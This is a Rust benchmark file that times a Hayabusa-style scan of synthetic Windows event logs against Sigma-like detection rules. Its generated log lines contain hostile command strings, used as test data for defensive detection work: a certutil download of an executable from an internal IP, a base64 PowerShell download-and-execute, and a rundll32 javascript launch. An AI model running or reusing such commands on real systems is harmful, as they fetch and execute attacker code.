//! A Hayabusa-like scan: event log lines parsed into records of fields, then every record checked
//! against every rule, each rule a set of field selections (equals, contains, starts with, ends
//! with, regular expression; case-insensitive like Sigma's defaults) and an optional filter that
//! vetoes a match. The work Hayabusa's performance guide tunes is all here: many small strings
//! allocated per line (the parsed record, lower-cased values), substring search and regexes.
//!
//! Scenarios (per op = per log line):
//! - `logscan/parse`: lines to records (allocation-heavy: a map of owned strings per line);
//! - `logscan/match`: already-parsed records against every rule;
//! - `logscan/scan`: both, as a scan of a log file does.
//!
//! The variants in costbench.toml are the guide's: mimalloc instead of the system allocator, and
//! `codegen-units = 1` with fat LTO. `costbench variants --instrument icount,memory` shows what
//! each does to instructions and allocations per line; wall time shows what the allocator does
//! to time (an allocator's cost is mostly cache and branch behaviour, not instruction count).

use std::collections::HashMap;

use costbench::{black_box, miri_size, ops, Suite};
use regex::Regex;

const LINES: usize = miri_size(2_000, 20);

/// One parsed event: field name to value, as Hayabusa holds an event's `Event.EventData`.
type Record = HashMap<String, String>;

/// Parses `Key=value` pairs separated by spaces, where a value may be double-quoted and hold
/// spaces and `\"` escapes.
fn parse(line: &str) -> Record {
    let mut rec = HashMap::new();
    let mut rest = line.trim_start();
    while let Some(eq) = rest.find('=') {
        let key = rest[..eq].trim();
        rest = &rest[eq + 1..];
        let value = if let Some(quoted) = rest.strip_prefix('"') {
            let mut value = String::new();
            let mut chars = quoted.char_indices();
            let mut end = quoted.len();
            while let Some((i, c)) = chars.next() {
                match c {
                    '\\' => {
                        if let Some((_, next)) = chars.next() {
                            value.push(next);
                        }
                    }
                    '"' => {
                        end = i + 1;
                        break;
                    }
                    c => value.push(c),
                }
            }
            rest = &quoted[end..];
            value
        } else {
            let end = rest.find(' ').unwrap_or(rest.len());
            let value = rest[..end].to_string();
            rest = &rest[end..];
            value
        };
        rec.insert(key.to_string(), value);
        rest = rest.trim_start();
    }
    rec
}

/// How a selection compares a field's value (Sigma's field modifiers).
enum Matcher {
    Equals(String),
    Contains(String),
    StartsWith(String),
    EndsWith(String),
    Regex(Regex),
}

impl Matcher {
    fn matches(&self, value: &str) -> bool {
        // Sigma's string comparisons are case-insensitive: Hayabusa lower-cases the value (one
        // allocation per comparison) and compares with a lower-cased pattern.
        match self {
            Matcher::Equals(p) => value.eq_ignore_ascii_case(p),
            Matcher::Contains(p) => value.to_lowercase().contains(p.as_str()),
            Matcher::StartsWith(p) => value.to_lowercase().starts_with(p.as_str()),
            Matcher::EndsWith(p) => value.to_lowercase().ends_with(p.as_str()),
            Matcher::Regex(r) => r.is_match(value),
        }
    }
}

/// A rule: every selection must match (a missing field does not), and the filter, when every
/// one of its selections matches, vetoes the hit.
struct Rule {
    title: &'static str,
    select: Vec<(&'static str, Matcher)>,
    filter: Vec<(&'static str, Matcher)>,
}

fn all_match(rec: &Record, sel: &[(&'static str, Matcher)]) -> bool {
    sel.iter()
        .all(|(field, m)| rec.get(*field).is_some_and(|v| m.matches(v)))
}

impl Rule {
    fn hits(&self, rec: &Record) -> bool {
        all_match(rec, &self.select) && (self.filter.is_empty() || !all_match(rec, &self.filter))
    }
}

fn lower(s: &str) -> String {
    s.to_lowercase()
}

/// A small rule set in the shape of Hayabusa's Sigma rules for process creation and logons.
fn rules() -> Vec<Rule> {
    use Matcher::*;
    let re = |p: &str| Regex(regex::Regex::new(p).expect("valid rule regex"));
    vec![
        Rule {
            title: "Encoded PowerShell command line",
            select: vec![
                ("EventID", Equals("4688".into())),
                ("NewProcessName", EndsWith(lower("\\powershell.exe"))),
                (
                    "CommandLine",
                    re(r"(?i)\s-(e|en|enc|enco|encodedcommand)\s+[A-Za-z0-9+/=]{16,}"),
                ),
            ],
            filter: vec![],
        },
        Rule {
            title: "Certutil download",
            select: vec![
                ("NewProcessName", EndsWith(lower("\\certutil.exe"))),
                ("CommandLine", Contains(lower("urlcache"))),
            ],
            filter: vec![],
        },
        Rule {
            title: "Process from a temp directory",
            select: vec![
                ("EventID", Equals("4688".into())),
                (
                    "NewProcessName",
                    Contains(lower("\\AppData\\Local\\Temp\\")),
                ),
            ],
            filter: vec![("ParentProcessName", EndsWith(lower("\\msiexec.exe")))],
        },
        Rule {
            title: "Logon with explicit credentials",
            select: vec![
                ("EventID", Equals("4648".into())),
                ("TargetServerName", re(r"^[A-Za-z0-9-]+\$?$")),
            ],
            filter: vec![("SubjectUserName", EndsWith("$".into()))],
        },
        Rule {
            title: "Failed logon, unknown user",
            select: vec![
                ("EventID", Equals("4625".into())),
                ("Status", Equals("0xc000006d".into())),
                ("SubUserName", StartsWith(lower("admin"))),
            ],
            filter: vec![],
        },
        Rule {
            title: "Scheduled task created",
            select: vec![
                ("EventID", Equals("4698".into())),
                ("TaskName", re(r"(?i)\\(update|sync|telemetry)[a-z]*$")),
            ],
            filter: vec![],
        },
        Rule {
            title: "Suspicious rundll32",
            select: vec![
                ("NewProcessName", EndsWith(lower("\\rundll32.exe"))),
                ("CommandLine", re(r"(?i)javascript:|\\\\[0-9.]+\\|,#\d+")),
            ],
            filter: vec![],
        },
        Rule {
            title: "Service installed from user path",
            select: vec![
                ("EventID", Equals("7045".into())),
                ("ImagePath", Contains(lower("\\Users\\"))),
            ],
            filter: vec![("ServiceName", StartsWith(lower("Google")))],
        },
    ]
}

/// A deterministic generator of log lines: a mix of the event kinds the rules look at, some
/// matching, most not.
fn lines(n: usize) -> Vec<String> {
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    let mut next = move || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let users = [
        "alice",
        "bob",
        "admin2",
        "svc_backup",
        "WKS-07$",
        "administrator",
    ];
    let images = [
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Windows\\System32\\certutil.exe",
        "C:\\Users\\bob\\AppData\\Local\\Temp\\setup_4411.exe",
        "C:\\Windows\\System32\\rundll32.exe",
        "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
        "C:\\Windows\\explorer.exe",
    ];
    let cmds = [
        "powershell.exe -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe",
        "setup_4411.exe /quiet",
        "rundll32.exe javascript:\\\"\\..\\mshtml,RunHTMLApplication \\\"",
        "firefox.exe -contentproc --channel=1204 -parentBuildID 20240101",
        "explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b}",
    ];
    (0..n)
        .map(|i| {
            let r = next();
            let host = format!("WKS-{:02}", r % 40);
            let user = users[(r >> 8) as usize % users.len()];
            match (r >> 16) % 5 {
                0 | 1 => {
                    let k = (r >> 24) as usize % images.len();
                    format!(
                        "EventID=4688 Channel=Security Computer={host} RecordID={i} SubjectUserName={user} NewProcessName=\"{}\" ParentProcessName=\"C:\\\\Windows\\\\explorer.exe\" CommandLine=\"{}\"",
                        images[k].replace('\\', "\\\\"),
                        cmds[k]
                    )
                }
                2 => format!(
                    "EventID=4625 Channel=Security Computer={host} RecordID={i} SubUserName={user} Status={} IpAddress=10.0.{}.{} LogonType=3",
                    if r & 1 == 0 { "0xc000006d" } else { "0xc0000064" },
                    (r >> 32) % 256,
                    (r >> 40) % 256
                ),
                3 => format!(
                    "EventID=4648 Channel=Security Computer={host} RecordID={i} SubjectUserName={user} TargetServerName=SRV-{:02} TargetUserName=admin",
                    (r >> 24) % 10
                ),
                _ => format!(
                    "EventID={} Channel=System Computer={host} RecordID={i} ServiceName=\"{}\" ImagePath=\"{}\" TaskName=\"\\\\Microsoft\\\\{}\"",
                    if r & 2 == 0 { "7045" } else { "4698" },
                    if r & 4 == 0 { "GoogleUpdate" } else { "WinSvcHost" },
                    if r & 8 == 0 { "C:\\\\Users\\\\bob\\\\svc.exe" } else { "C:\\\\Windows\\\\svc.exe" },
                    if r & 16 == 0 { "UpdateCheck" } else { "Defrag" }
                ),
            }
        })
        .collect()
}

/// Hits per rule over `records`, as a scan's summary counts them.
fn scan<'r>(records: impl Iterator<Item = &'r Record>, rules: &[Rule]) -> Vec<usize> {
    let mut hits = vec![0; rules.len()];
    for rec in records {
        for (n, rule) in hits.iter_mut().zip(rules) {
            *n += usize::from(rule.hits(rec));
        }
    }
    hits
}

fn main() {
    let mut suite = Suite::new();
    let per_line = ops(LINES as u64, "lines");
    suite.bench("logscan/parse", per_line.clone(), |b| {
        let input = lines(LINES);
        b.iter(|| {
            black_box(&input)
                .iter()
                .map(|l| parse(l))
                .collect::<Vec<_>>()
        })
    });
    suite.bench("logscan/match", per_line.clone(), |b| {
        let records: Vec<Record> = lines(LINES).iter().map(|l| parse(l)).collect();
        let rules = rules();
        b.iter(|| scan(black_box(&records).iter(), &rules))
    });
    suite.bench("logscan/scan", per_line, |b| {
        let input = lines(LINES);
        let rules = rules();
        // Every rule must be reachable by the data, or the scan measures less than it claims.
        let records: Vec<Record> = input.iter().map(|l| parse(l)).collect();
        let hits = scan(records.iter(), &rules);
        for (rule, n) in rules.iter().zip(&hits) {
            assert!(*n > 0, "rule {:?} matches no generated line", rule.title);
        }
        b.iter(|| {
            let records: Vec<Record> = black_box(&input).iter().map(|l| parse(l)).collect();
            scan(records.iter(), &rules)
        })
    });
    suite.main();
}
